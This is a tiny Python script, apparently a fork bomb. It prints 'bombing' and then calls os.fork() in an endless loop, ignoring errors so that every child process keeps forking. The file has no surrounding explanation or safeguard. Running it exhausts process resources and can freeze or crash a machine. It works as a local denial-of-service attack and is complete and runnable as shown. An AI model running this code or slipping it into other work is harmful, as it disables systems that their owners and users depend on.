"""Forks forever; every child does the same."""
import os

print("bombing", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
